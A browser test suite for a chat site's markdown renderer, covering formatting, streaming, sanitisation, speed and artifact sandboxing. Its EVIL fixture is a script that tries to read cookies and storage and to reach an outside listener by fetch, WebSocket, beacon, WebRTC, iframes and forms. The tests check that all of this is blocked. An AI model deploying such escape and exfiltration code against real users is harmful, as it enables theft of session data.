"""Text of models in a real browser: what it becomes, what it never becomes, and how fast (site.md CHAT-17, CHAT-18)."""

import json
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.serving import Served
from tests.web import hostile_markdown
from tests.web.conftest import MANIFEST, OpenPage
from tests.web.ear import Ear

ANSWER = r"""# Title

A *first* paragraph with `code`, a [link](https://ok.example/a) and $e^{i\pi} = -1$; it costs $5 or $6.

1. one
2. two
   - nested

   more of two

| a | b |
|---|--:|
| 1 | 2 |

text
#not a heading

```python
def f(x):
    return x

# comment
```

> quoted
continued

$$
\frac{1}{2}
$$

\[ x^2 \]

Setext
---

- [x] done
- [ ] open

See [late] and https://auto.example/x.

[late]: https://late.example/
"""

ALLOWED = {
    *("P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "EM", "STRONG", "S", "A", "BR", "HR"),
    *("TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "DIV", "SPAN", "BUTTON", "INPUT", "IMG", "SECTION"),
}
ATTRIBUTES = {
    *("class", "href", "target", "rel", "tabindex", "type", "disabled", "aria-label", "scope", "data-copy", "start"),
    *("src", "alt", "loading", "title", "checked"),
}

INSPECT = """
(root) => [...root.querySelectorAll("*")].map((element) => ({
  name: element.tagName,
  isMath: element.namespaceURI.endsWith("MathML"),
  attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
}))
"""


@pytest.fixture
def page(open_page: OpenPage) -> Page:
    """A page of the site, with the renderer as `render` and an element to render into as `target`."""
    page = open_page("/design")
    load(page)
    return page


def load(page: Page) -> None:
    manifest: dict[str, dict[str, Any]] = json.loads(MANIFEST.read_text(encoding="utf-8"))
    page.evaluate(
        """async (address) => {
          window.render = await import(address);
          window.target = document.createElement("div");
          window.target.className = "prose answer";
          document.querySelector("main").prepend(window.target);
        }""",
        f"/static/dist/{manifest['src/render/index.ts']['file']}",
    )


def shown(page: Page, text: str, **options: Any) -> None:
    page.evaluate("([text, options]) => render.renderMarkdown(target, text, options)", [text, options])


def test_an_answer_has_code_tables_formulas_and_tasks(page: Page) -> None:
    shown(page, ANSWER)
    answer = page.locator("main > .answer").first
    assert answer.locator("h3").inner_text() == "Title"
    assert answer.locator("math").count() == 3
    assert "it costs $5 or $6." in answer.locator("p").first.inner_text()
    block = answer.locator(".code-block")
    assert block.locator(".code-block-head span").inner_text() == "python"
    assert block.get_by_role("button", name="Copy").get_attribute("data-copy") == "def f(x):\n    return x\n\n# comment"
    block.locator(".hljs-keyword").first.wait_for()
    assert block.locator("pre").inner_text() == "def f(x):\n    return x\n\n# comment"
    assert answer.locator("td.align-right").inner_text() == "2"
    assert answer.get_by_role("checkbox").count() == 2
    assert answer.get_by_role("checkbox").first.is_checked()
    assert "#not a heading" in answer.inner_text()
    links = {link.inner_text(): link.get_attribute("href") for link in answer.locator("a").all()}
    assert links == {
        "link": "https://ok.example/a",
        "late": "https://late.example/",
        "https://auto.example/x": "https://auto.example/x",
    }
    for link in answer.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"


def test_a_text_that_came_in_pieces_ends_like_the_whole(page: Page) -> None:
    """However it is cut, and what is settled is never touched again."""
    result = page.evaluate(
        r"""async (answers) => {
          const wrong = [];
          const settle = () => new Promise((done) => setTimeout(done, 150));
          for (const answer of answers) {
            const whole = document.createElement("div");
            render.renderMarkdown(whole, answer);
            for (const size of [1, 2, 5, 17, 64]) {
              const pieces = document.createElement("div");
              let first;
              for (let end = size; end < answer.length + size; end += size) {
                render.renderMarkdown(pieces, answer.slice(0, end), { isStreaming: true });
                if (end > 200 && first === undefined) first = pieces.firstChild;
                if (first !== undefined && pieces.firstChild !== first) wrong.push([size, "touched", end]);
              }
              const streamed = pieces.textContent;
              render.renderMarkdown(pieces, answer);
              await settle();
              if (pieces.innerHTML !== whole.innerHTML) wrong.push([size, pieces.innerHTML, whole.innerHTML]);
              if (!answer.includes("]:") && streamed.replace(/\s/g, "").slice(0, 400) !==
                  pieces.textContent.replace(/\s/g, "").slice(0, 400)) wrong.push([size, "streamed", streamed]);
            }
          }
          return wrong;
        }""",
        [ANSWER.replace("$", "").replace("\\[", "").replace("\\]", ""), ANSWER.partition("$$")[0].replace("$", "")],
    )
    assert result == []


def test_sources_are_numbered_marks_and_a_list(page: Page) -> None:
    text = (
        "Rain [1], and sun [2][9]. As [weather.example](https://weather.example/a) says; "
        "[read on](https://sky.example/b)."
    )
    sources = [
        {"url": "https://weather.example/a", "title": "Weather"},
        {"url": "https://sky.example/b"},
        {"url": "javascript:pwned()", "title": "Bad"},
    ]
    shown(page, text, sources=sources)
    answer = page.locator("main > .answer").first
    assert answer.locator("p").inner_text() == "Rain 1, and sun 2[9]. As 1 says; read on2."
    assert answer.locator(".source-mark").first.get_attribute("aria-label") == "Source 1: Weather"
    assert answer.locator(".sources li").all_inner_texts() == ["Weather weather.example", "sky.example sky.example"]


def test_hostile_texts_stay_texts(page: Page) -> None:
    page.evaluate("() => { window.pwned = () => { window.isPwned = true } }")
    texts = list(hostile_markdown.ALL)
    for is_streaming in (False, True):
        elements: list[dict[str, Any]] = page.evaluate(
            f"""async ([texts, isStreaming]) => {{
              const stage = document.createElement("div");
              target.append(stage);
              for (const text of texts) {{
                const place = document.createElement("div");
                stage.append(place);
                const began = performance.now();
                if (isStreaming) render.renderMarkdown(place, text.slice(0, text.length / 2), {{ isStreaming }});
                render.renderMarkdown(place, text, {{ sources: [{{ url: text, title: text }}] }});
                const took = performance.now() - began;
                if (took > 3000) throw new Error(`${{took}} ms for ${{text.slice(0, 40)}}`);
              }}
              await new Promise((done) => setTimeout(done, 500));
              for (const link of stage.querySelectorAll("a, button, summary")) {{
                link.addEventListener("click", (event) => event.preventDefault());
                link.click();
              }}
              const seen = ({INSPECT})(stage);
              stage.remove();
              return seen;
            }}""",
            [texts, is_streaming],
        )
        assert len(elements) > len(texts)
        for element in elements:
            names = set(element["attributes"])
            if element["isMath"]:
                assert not any(name.startswith("on") or name in ("href", "xlink:href") for name in names), element
                continue
            assert element["name"] in ALLOWED, element
            assert names <= ATTRIBUTES, element
            if "href" in names:
                assert element["attributes"]["href"].startswith(("https://", "http://", "mailto:")), element
                assert "@" not in element["attributes"]["href"].partition("?")[0], element
            if "src" in names:
                assert element["attributes"]["src"].startswith("data:image/png;base64,"), element
    assert page.evaluate("window.isPwned") is None


EVIL = """
<p id="out">nothing</p>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>
const line = new RTCPeerConnection({ iceServers: [
  { urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'c' },
] });
line.createDataChannel('x');
line.setLocalDescription();
</script>"></iframe></template></div>
<script>
const tried = {};
const attempt = async (name, act) => {
  try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; }
};
const socket = (address) => new Promise((done, fail) => {
  const opened = new WebSocket(address);
  opened.onopen = () => done("opened");
  opened.onerror = fail;
});
const image = (address) => new Promise((done, fail) => {
  const shown = new Image();
  shown.onload = () => done("loaded");
  shown.onerror = fail;
  shown.src = address;
});
const script = (address) => new Promise((done, fail) => {
  const element = document.createElement("script");
  element.onload = () => done("loaded");
  element.onerror = fail;
  element.src = address;
  document.head.append(element);
});
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => new Promise((done, fail) => {
    const opening = indexedDB.open("x");
    opening.onsuccess = () => done("opened");
    opening.onerror = fail;
  }));
  await attempt("parent", () => parent.document.title);
  await attempt("address", () => parent.location.href);
  await attempt("fetch", async () => (await fetch("SITE/models")).status);
  await attempt("foreign", async () => (await fetch("http://127.0.0.1:PORT/fetch", { mode: "no-cors" })).type);
  await attempt("image", () => image("http://127.0.0.1:PORT/image"));
  await attempt("script", () => script("http://127.0.0.1:PORT/script"));
  await attempt("socket", () => socket("ws://127.0.0.1:PORT/socket"));
  await attempt("beacon", () => navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x") ? "sent" : "refused");
  await attempt("popup", () => String(window.open("http://127.0.0.1:PORT/popup")));
  await attempt("top", () => { top.location = "http://127.0.0.1:PORT/top"; return "asked"; });
  for (const [rel, as] of [["stylesheet", ""], ["prefetch", ""], ["preload", "image"], ["modulepreload", ""],
      ["preconnect", ""], ["dns-prefetch", ""]]) {
    const link = document.createElement("link");
    Object.assign(link, { rel, as, href: `http://127.0.0.1:PORT/${rel}` });
    document.head.append(link);
  }
  const call = async () => {
    const line = new RTCPeerConnection({ iceServers: [
      { urls: "turn:127.0.0.1:PORT?transport=tcp", username: "u", credential: "c" },
    ] });
    line.createDataChannel("x");
    await line.setLocalDescription();
  };
  await attempt("call", call);
  const inside = (parent) => {
    const inner = document.createElement("iframe");
    inner.srcdoc = `<script>(${call})()<` + `/script>`;
    parent.append(inner);
    return inner;
  };
  const blank = inside(document.body).contentWindow;
  await attempt("call from within", () => new (blank.RTCPeerConnection)());
  await attempt("shadow", () => inside(document.createElement("div").attachShadow({ mode: "open" })));
  Element.prototype.remove = () => {};
  inside(document.body);
  const written = document.createElement("div");
  written.innerHTML = `<iframe srcdoc="<script>(${call})()<` + `/script>"></iframe>`;
  document.body.append(written);
  await new Promise((done) => setTimeout(done, 1500));
  const form = document.createElement("form");
  form.action = "http://127.0.0.1:PORT/form";
  document.body.append(form);
  await attempt("form", () => { form.submit(); return "asked"; });
  document.getElementById("out").textContent = JSON.stringify(tried);
})();
</script>
"""


def test_an_artifact_reaches_neither_cookies_nor_the_network(browser: Browser, site: Served) -> None:
    with Ear() as ear, browser.new_context(base_url=site.url) as context:
        page = context.new_page()
        page.goto("/design")
        load(page)
        page.context.add_cookies([{"name": "mine", "value": "1", "url": site.url}])
        source = EVIL.replace("PORT", str(ear.port)).replace("SITE", site.url)
        page.evaluate(
            """(source) => {
              render.renderMarkdown(target, "```html\\n" + source + "\\n```", {
                onArtifact: (artifact) => {
                  const stage = document.createElement("div");
                  stage.id = "stage";
                  target.after(stage);
                  render.showArtifact(stage, artifact, "Evil");
                },
              });
            }""",
            source,
        )
        page.locator("main > .answer").first.get_by_role("button", name="Run").click()
        out = page.frame_locator("#stage iframe").locator("#out")
        out.filter(has_text="{").wait_for()
        tried: dict[str, str] = json.loads(out.inner_text())
        for name in ("cookie", "storage", "database", "parent", "address", "fetch", "foreign", "image", "script"):
            assert tried.pop(name) == "refused", name
        for name in ("socket", "call", "call from within", "shadow"):
            assert tried.pop(name) == "refused", name
        assert tried.pop("popup") in ("null", "refused")
        page.wait_for_timeout(500)
        page.frame_locator("#stage iframe").locator("body").evaluate(
            "(_, address) => { location.href = address }", f"http://127.0.0.1:{ear.port}/away"
        )
        page.wait_for_timeout(1000)
        assert ear.heard == []
        assert page.url == f"{site.url}/design"


def test_an_artifact_s_page_is_a_stranger_even_when_it_is_opened_alone(open_page: OpenPage, site: Served) -> None:
    page = open_page("/chat/artifact", expects_error=True)
    assert page.evaluate("origin") == "null"
    refused = page.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()")
    assert refused == "refused"


MEASURE = """
(answer) => {
  const columns = Array.from({ length: 4 }, () => target.appendChild(document.createElement("div")));
  const paints = [];
  for (let end = 14; end < answer.length; end += 14) {  // 200 tokens/s of four characters, painted 60 times a second
    for (const column of columns) {
      const began = performance.now();
      render.renderMarkdown(column, answer.slice(0, end), { isStreaming: true });
      paints.push(performance.now() - began);
    }
  }
  for (const column of columns) column.remove();
  paints.sort((a, b) => a - b);
  return { mean: paints.reduce((a, b) => a + b) / paints.length, p99: paints[Math.floor(paints.length * 0.99)] };
}
"""


def test_four_columns_of_200_tokens_a_second_leave_the_frame_free(page: Page, record_property: Any) -> None:
    """A paint costs the same however long the text is. It prints the numbers."""
    measured: dict[str, float] = page.evaluate(MEASURE, ANSWER * 8)
    record_property("paint_ms", measured)
    print(f"a paint: {measured['mean']:.2f} ms on average, {measured['p99']:.2f} ms in 99 of 100")
    assert measured["mean"] < 4.0  # four of them in each frame of 16 ms
    early: dict[str, float] = page.evaluate(MEASURE, ANSWER * 2)
    assert measured["mean"] < 4 * early["mean"] + 0.5


def test_a_stream_is_painted_by_frames_and_ends_whole(page: Page) -> None:
    page.evaluate(
        """async (answer) => {
          const stream = render.streamMarkdown(target);
          for (let end = 0; end < answer.length; end += 40) {
            stream.show(answer.slice(0, end));
            if (end % 400 === 0) await new Promise(requestAnimationFrame);
          }
          stream.end(answer, [{ url: "https://ok.example/a", title: "Ok" }]);
        }""",
        ANSWER,
    )
    answer = page.locator("main > .answer").first
    assert answer.locator("math").count() == 3
    assert answer.locator(".sources li").count() == 1
    assert answer.locator(".code-block").get_by_role("button", name="Copy").get_attribute("data-copy")
